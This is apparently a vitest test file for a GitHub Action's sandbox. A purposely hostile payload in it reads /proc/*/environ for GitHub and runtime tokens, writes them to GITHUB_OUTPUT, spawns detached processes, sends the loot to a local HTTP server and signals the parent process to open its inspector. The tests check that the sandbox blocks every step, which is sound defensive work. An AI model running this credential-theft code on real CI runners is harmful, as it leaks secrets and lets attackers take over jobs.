// The Node smoke boot's operating-system boundary, through the bundled action run as the runner runs
// it: a js output written by a hostile Dockerfile (a pull request's, say) tries every way back into
// the job from worker threads that ask for no permission model or their own, from processes, and by
// signalling the action; and smoke-sandbox decides what happens where no boundary can be made
// (C2W_SMOKE_SANDBOX_FORBID is the seam that makes this machine such a runner).
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import { createServer, type AddressInfo, type Server } from 'node:net';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TEST_IMAGE } from '../../harness/engine.js';
import { metadataOf } from '../../harness/metadata.js';
import { useHarness } from '../../harness/use-harness.js';

const h = useHarness({ name: 'boundary' });

const TOKEN = 'ghs_theTokenThatMustNotLeak0123456789';
const RUNTIME_TOKEN = 'ghs_theRuntimeTokenThatMustNotLeak42';

/** A workspace whose Dockerfile makes a js output of three files, out.js being `outJs`. */
function workspaceWith(name: string, outJs: string): string {
  const ws = path.join(h.dir, `ws-${name}`);
  mkdirSync(ws, { recursive: true });
  writeFileSync(
    path.join(ws, 'Dockerfile'),
    [
      'FROM scratch AS js',
      "COPY <<'C2W_HOSTILE_END' /out.js",
      outJs,
      'C2W_HOSTILE_END',
      "COPY <<'C2W_HOSTILE_END' /load.js",
      '// no preload',
      'C2W_HOSTILE_END',
      "COPY <<'C2W_HOSTILE_END' /arg-module.js",
      "Module['arguments'] = [];",
      'C2W_HOSTILE_END',
      "COPY <<'C2W_HOSTILE_END' /qemu-system-x86_64.wasm",
      'not a module',
      'C2W_HOSTILE_END',
      '',
    ].join('\n'),
  );
  return ws;
}

/** The step's log without the lines that tell the runner what to mask (which hold the secrets by design). */
const unmaskedLog = (log: string): string =>
  log
    .split('\n')
    .filter((l) => !l.startsWith('::add-mask::'))
    .join('\n');

// What a worker of the guest runs: every way back into the job it knows, reported as one object.
// `P` holds the places the test watches.
const ATTACK = `
const fs = require('node:fs');
const cp = require('node:child_process');
const net = require('node:net');
const { parentPort, workerData: P } = require('node:worker_threads');
const out = {};
const t = (k, f) => { try { out[k] = 'done:' + String(f()).slice(0, 200); } catch (e) { out[k] = 'refused:' + (e.code || e.message); } };
let seen = '';
t('proc', () => {
  for (const pid of fs.readdirSync('/proc').filter((d) => /^[0-9]+$/.test(d))) {
    try { seen += fs.readFileSync('/proc/' + pid + '/environ', 'latin1') + '\\0'; } catch {}
  }
  return seen.length;
});
const env = {};
for (const l of seen.split('\\0')) if (l.includes('=')) env[l.slice(0, l.indexOf('='))] ??= l.slice(l.indexOf('=') + 1);
const loot = 'token=' + env['INPUT_GITHUB-TOKEN'] + ' runtime=' + env.ACTIONS_RUNTIME_TOKEN;
t('loot', () => loot);
t('githubOutput', () => fs.appendFileSync(env.GITHUB_OUTPUT || P.output, 'stolen=' + loot + '\\n'));
t('plant', () => fs.writeFileSync(P.plant + '.' + P.name, loot));
t('exec', () => cp.execSync('echo "' + loot + '" > ' + P.plant + '.exec-' + P.name));
t('grandchild', () => cp.spawn('/bin/sh', ['-c', 'sleep 40; echo late > ' + P.plant + '.late', P.marker], { detached: true, stdio: 'ignore' }).unref());
const unix = net.connect(P.socket); unix.on('error', () => undefined);
const abstract = net.connect('\\0' + P.abstract); abstract.on('error', () => undefined);
const tcp = net.connect(P.port, '127.0.0.1', () => tcp.write('GET /' + encodeURIComponent(loot) + ' HTTP/1.0\\r\\n\\r\\n'));
tcp.on('error', () => undefined);
setTimeout(() => parentPort.postMessage(out), 500);
`;

/** out.js: the attack in a worker with `execArgv: []`, one with its own grants, and the main thread. */
const exfiltratingOutJs = (places: object): string => `
import { Worker } from 'node:worker_threads';
const P = ${JSON.stringify(places)};
const ATTACK = ${JSON.stringify(ATTACK)};
const run = (name, execArgv) => new Promise((resolve) => {
  let w;
  try {
    w = new Worker(ATTACK, { eval: true, execArgv, workerData: { ...P, name } });
  } catch (e) { resolve('refused:' + (e.code || e.message)); return; }
  w.once('message', (m) => { resolve(m); w.terminate(); });
  w.once('error', (e) => resolve('error:' + (e.code || e.message)));
  setTimeout(() => resolve('silent'), 5000);
});
const got = {
  bare: await run('bare', []),
  own: await run('own', ['--permission', '--allow-fs-read=*', '--allow-fs-write=*', '--allow-child-process']),
};
process.stdout.write('hostile: ' + JSON.stringify(got) + '\\nc2w-smoke-ok\\n');
export default async function init() { await new Promise(() => undefined); }
`;

/**
 * out.js: from a worker that asks for no permission model, opens the inspector of its parent (the
 * action, without a boundary) with SIGUSR1, then stops it. (Only its parent: without a boundary a
 * signal to every process it can see would stop the machine's other work.)
 */
const SIGNALLING_OUT_JS = `
import { Worker } from 'node:worker_threads';
const poke = String.raw\`
  const done = [];
  for (const sig of ['SIGUSR1', 'SIGSTOP']) { try { process.kill(process.ppid, sig); done.push(sig + ' ' + process.ppid); } catch (e) { done.push(sig + ' ' + e.code); } }
  require('node:worker_threads').parentPort?.postMessage(done);
\`;
const w = new Worker(poke, { eval: true, execArgv: [] });
const done = await new Promise((resolve) => { w.once('message', resolve); w.once('error', (e) => resolve(String(e))); });
process.stdout.write('poked: ' + JSON.stringify(done) + '\\n');
setInterval(() => undefined, 1000); // as an emulator's threads would, it stays up
export default async function init() { await new Promise(() => undefined); }
`;

describe('the Node smoke boot of a hostile js output, in the action step', () => {
  let unixServer: Server;
  let abstractServer: Server;
  let tcpServer: ReturnType<typeof createHttpServer>;
  const reached: string[] = [];
  let places: { plant: string; output: string; socket: string; port: number; marker: string; abstract: string };

  beforeAll(async () => {
    const socket = path.join(h.dir, 'engine.sock');
    unixServer = createServer((c) => {
      reached.push('unix');
      c.destroy();
    }).listen(socket);
    // An abstract Unix socket (a name, not a file: only a network namespace separates them).
    abstractServer = createServer((c) => {
      reached.push('abstract');
      c.destroy();
    }).listen('\0c2w-boundary-abstract');
    tcpServer = createHttpServer((q, res) => {
      reached.push(`http ${q.url}`);
      res.end('ok');
    }).listen(0, '127.0.0.1');
    await new Promise((r) => tcpServer.once('listening', r));
    places = {
      plant: path.join(h.dir, 'planted'),
      output: path.join(h.dir, 'no-such-output'),
      socket,
      port: (tcpServer.address() as AddressInfo).port,
      marker: 'c2w-boundary-grandchild',
      abstract: 'c2w-boundary-abstract',
    };
  });
  afterAll(() => {
    unixServer?.close();
    abstractServer?.close();
    tcpServer?.close();
    spawnSync('pkill', ['-f', 'c2w-boundary-grandchild']);
  });

  it('gets no token, writes nothing, starts nothing that outlives it, and reaches no socket', async () => {
    const ws = workspaceWith('exfiltrate', exfiltratingOutJs(places));
    const r = await h.job(
      {
        image: TEST_IMAGE,
        target: 'js',
        dockerfile: 'Dockerfile',
        allocator: 'default',
        'github-token': TOKEN,
        cache: 'none',
        'upload-artifact': 'false',
        'smoke-timeout': '60',
      },
      { workspace: ws, env: { ACTIONS_RUNTIME_TOKEN: RUNTIME_TOKEN }, timeoutMs: 240_000 },
    );
    const log = unmaskedLog(r.main.log);
    expect(r.main.outputs['smoke-result'], log).toBe('passed');
    expect(log).toMatch(/hostile: \{"bare":/);
    // Without a boundary (the code before it) the bare worker printed both tokens here.
    for (const secret of [TOKEN, RUNTIME_TOKEN]) {
      expect(log).not.toContain(secret);
      expect(r.main.summary).not.toContain(secret);
      for (const value of Object.values(r.main.outputs)) expect(value).not.toContain(secret);
    }
    expect(r.main.outputs.stolen).toBeUndefined();
    for (const suffix of ['bare', 'own', 'exec-bare', 'exec-own', 'late']) {
      expect(existsSync(`${places.plant}.${suffix}`), suffix).toBe(false);
    }
    expect(existsSync(places.output)).toBe(false);
    expect(reached).toEqual([]);
    expect(spawnSync('pgrep', ['-f', places.marker]).status).not.toBe(0);
    expect(log).toMatch(/Node smoke boot's sandbox: PID, mount and network namespaces made as root/);
    expect(r.main.summary).toMatch(/Node smoke boot's sandbox: PID, mount and network namespaces/);
  }, 300_000);

  it('cannot stop the action or open its inspector: the step ends at smoke-timeout', async () => {
    const ws = workspaceWith('signals', SIGNALLING_OUT_JS);
    const r = await h.job(
      {
        image: TEST_IMAGE,
        target: 'js',
        dockerfile: 'Dockerfile',
        allocator: 'default',
        cache: 'none',
        'upload-artifact': 'false',
        'smoke-timeout': '5',
      },
      // Stopped, the step would run until this limit and be killed (exit code 128).
      { workspace: ws, timeoutMs: 150_000 },
    );
    expect(r.main.exitCode, r.main.log).toBe(1);
    expect(r.main.outputs['smoke-result'], r.main.log).toBe('timeout');
    expect(r.main.log).toMatch(/poked: /);
    expect(r.main.log).not.toMatch(/Debugger listening/);
  }, 300_000);
});

describe('smoke-sandbox where no boundary can be made', () => {
  const nowhere = { C2W_SMOKE_SANDBOX_FORBID: 'root,sudo,userns' };

  it('required: boots nothing and fails with a message that says why', async () => {
    const r = await h.job(
      { image: TEST_IMAGE, cache: 'none', 'upload-artifact': 'false', 'smoke-sandbox': 'required' },
      { env: nowhere },
    );
    expect(r.main.exitCode, r.main.log).toBe(1);
    expect(r.main.outputs['smoke-result']).toBe('failed');
    expect(r.main.outputs.error).toMatch(
      /The module was not booted: smoke-sandbox is required, and this machine gives no operating-system boundary: no namespaces could be made \(every way is forbidden by C2W_SMOKE_SANDBOX_FORBID\)/,
    );
    expect(metadataOf(r.main.outputs).smoke?.node?.output).toBe('');
  }, 300_000);

  it('auto: boots under the permission model and warns in the log and the summary', async () => {
    const r = await h.job({ image: TEST_IMAGE, cache: 'none', 'upload-artifact': 'false' }, { env: nowhere });
    expect(r.main.exitCode, r.main.log).toBe(0);
    expect(r.main.outputs['smoke-result']).toBe('passed');
    expect(r.main.log).toMatch(
      /::warning::Node smoke boot's sandbox: no operating-system boundary: .*It booted under Node's permission model only/,
    );
    expect(r.main.summary).toMatch(/Node smoke boot's sandbox: no operating-system boundary/);
  }, 300_000);

  it('refuses a value that is neither auto nor required, naming the input', async () => {
    const r = await h.job({ image: TEST_IMAGE, cache: 'none', 'upload-artifact': 'false', 'smoke-sandbox': 'off' });
    expect(r.main.exitCode).toBe(1);
    expect(r.main.outputs.error).toMatch(/smoke-sandbox.*must be one of auto, required; got 'off'/);
  }, 120_000);
});
